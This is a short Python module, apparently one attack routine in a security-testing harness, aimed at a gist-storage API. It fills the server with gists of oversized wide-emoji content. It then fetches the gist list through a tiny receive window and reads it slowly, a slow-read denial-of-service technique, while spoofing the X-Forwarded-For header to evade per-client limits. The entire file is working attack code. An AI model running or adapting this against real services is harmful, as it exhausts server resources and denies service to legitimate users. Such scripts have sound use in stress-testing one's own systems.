"""Large answers that are asked for and hardly read."""

import asyncio

ABOUT = "lists of large gists asked for and hardly read"
AT_ONCE = 8
PAUSE = 1.0
# Gists of wide characters: few of them make a large list.
GISTS = 40
WIDE = "👩‍👩‍👧‍👦"


async def strike(attack):
    signed, user = await attack.account()
    if attack.memory.get("stored", 0) < GISTS:
        number = attack.memory["stored"] = attack.memory.get("stored", 0) + 1
        body = {"userId": user, "title": f"wide {number}", "content": WIDE * 2_000}
        await attack.ask_json("POST", "/api/gists", body, signed)
        return
    reader, writer = await attack.peer.open(window=512)
    try:
        content = attack.peer.request("GET", "/api/gists", None, {**signed, "X-Forwarded-For": attack.address()})
        attack.note(content)
        writer.write(content)
        for _ in range(20):
            await asyncio.wait_for(reader.read(64), 5)
            await asyncio.sleep(0.5)
    finally:
        writer.transport.abort()
